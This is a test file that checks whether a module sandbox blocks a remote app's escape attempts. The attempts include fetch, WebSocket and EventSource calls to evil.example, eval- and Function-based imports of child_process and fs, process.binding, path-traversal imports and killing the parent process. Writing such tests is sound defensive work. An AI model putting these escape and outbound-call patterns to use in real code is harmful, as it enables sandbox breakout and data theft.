import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { expect, it, onTestFinished } from 'vitest';

/** What the code of a shop tries, each on its own; it is run in a process that renders. */
const tries: Readonly<Record<string, string>> = {
  'the api': `(await fetch(apiUrl + '/programs')).text()`,
  'another page of its own': `(await import('./page.js')).default`,
  react: `(await import('react')).default`,
  'another origin': `fetch('https://evil.example/take?it')`,
  'another port of the api': `fetch('http://127.0.0.1:1/api')`,
  'an address that changes': `(await fetch({ toString: () => (turn++ ? 'https://evil.example' : apiUrl) })).text()`,
  'a socket': `new WebSocket('ws://evil.example')`,
  'events of another origin': `new EventSource('https://evil.example')`,
  'a module of Node': `import('node:net')`,
  'the same in made-up code': `(0, eval)("import('node:child_process')")`,
  'the same by a constructor': `new Function("return import('fs')")()`,
  'the same by way of process': `process.getBuiltinModule('node:fs')`,
  'a part of Node': `process.binding('tcp_wrap')`,
  'code in an address': `import('data:text/javascript,export default 1')`,
  'a file of another release': `import('../../../blog/1.0.0/server/app.js')`,
  'a package that is installed': `import('fastify')`,
  'CommonJS, which requires': `(await import('./required.js')).default`,
  'the end of another process': `process.kill(process.ppid)`,
};
const app = `let turn = 0;
export default { ${Object.entries(tries)
  .map(([name, code]) => `'${name}': async (apiUrl) => ${code}`)
  .join(',\n')} };`;

const files = {
  'shop/1.0.0/server/app.js': app,
  'shop/1.0.0/server/page.js': 'export default "a page"',
  'shop/1.0.0/server/required.js': 'module.exports = require("node:fs");',
  'blog/1.0.0/server/app.js': 'export default "the blog"',
  'host/1.0.0/server/react.js': 'import "node:path"; export default "the react of the host"',
};

const rendering = (releases: string, apiUrl: string) => `
  import { register } from 'node:module';
  import { MessageChannel } from 'node:worker_threads';
  import { confineRemotes } from '${pathToFileURL(path.join(import.meta.dirname, 'confine-remotes.ts')).href}';
  const releases = '${releases}';
  const { port1, port2 } = new MessageChannel();
  const told = [];
  port1.on('message', (overreach) => told.push(overreach)).unref();
  const limits = { parent: process.ppid, memoryLimit: Infinity, beats: new Int32Array(new SharedArrayBuffer(4)), blockLimit: Infinity };
  const provided = { react: releases + 'host/1.0.0/server/react.js' };
  register('${pathToFileURL(path.join(import.meta.dirname, 'resolve-hooks.ts')).href}', { data: { provided, releases, overreaches: port2, ...limits }, transferList: [port2] });
  confineRemotes({ releases, apiUrl: '${apiUrl}', onOverreach: (overreach) => told.push(overreach) });
  const { default: tries } = await import(releases + 'shop/1.0.0/server/app.js');
  const came = {};
  for (const [name, run] of Object.entries(tries)) came[name] = await run('${apiUrl}').catch((error) => error.message);
  // What the thread of the hooks has refused it tells by messages.
  const refusals = Object.values(came).filter((text) => text.includes('may not')).length;
  while (told.length < refusals) await new Promise((resolve) => setTimeout(resolve, 5));
  console.log(JSON.stringify({ came, told }));
  process.exit();`;

it('A remote reaches the api, its own files and what the host provides; all else is refused and told with its release', async () => {
  const folder = await mkdtemp(path.join(tmpdir(), 'sahra-releases-'));
  onTestFinished(() => rm(folder, { recursive: true }));
  const releases = pathToFileURL(`${folder}/`).href;
  for (const [file, source] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(folder, file)), { recursive: true });
    await writeFile(path.join(folder, file), source);
  }
  const api = createServer((_, response) => void response.end('programs')).listen(0, '127.0.0.1');
  onTestFinished(() => void api.close().closeAllConnections());
  await new Promise((resolve) => api.once('listening', resolve));
  await writeFile(
    path.join(folder, 'render.mjs'),
    rendering(releases, `http://127.0.0.1:${(api.address() as AddressInfo).port}/api`),
  );

  const { stdout } = await promisify(execFile)(process.execPath, [path.join(folder, 'render.mjs')]);
  const { came, told } = JSON.parse(stdout);

  const connecting = (target: string) =>
    `shop 1.0.0 may not connect to ${target}: pages on the server reach the api, and nothing else`;
  const importing = (module: string) =>
    `shop 1.0.0 may not import ${module}: a remote has its own files and what the host provides`;
  const using = (name: string) => `shop 1.0.0 may not use process.${name}`;
  expect(came).toEqual({
    'the api': 'programs',
    'another page of its own': 'a page',
    react: 'the react of the host',
    'another origin': connecting('https://evil.example'),
    'another port of the api': connecting('http://127.0.0.1:1'),
    'an address that changes': 'programs',
    'a socket': connecting('ws://evil.example by WebSocket'),
    'events of another origin': connecting('https://evil.example by EventSource'),
    'a module of Node': importing('node:net'),
    'the same in made-up code': importing('node:child_process'),
    'the same by a constructor': importing('fs'),
    'the same by way of process': using('getBuiltinModule'),
    'a part of Node': using('binding'),
    'code in an address': importing('data:text/javascript,export default 1'),
    'a file of another release': importing('../../../blog/1.0.0/server/app.js'),
    'a package that is installed': importing('fastify'),
    'CommonJS, which requires': expect.stringContaining('module is not defined in ES module scope'),
    'the end of another process': using('kill'),
  });
  const refused = Object.values<string>(came).filter((text) => text.includes('may not'));
  expect(refused).toHaveLength(13);
  expect(told).toHaveLength(13);
  for (const text of refused) expect(told).toContainEqual({ remote: 'shop', version: '1.0.0', text });
});
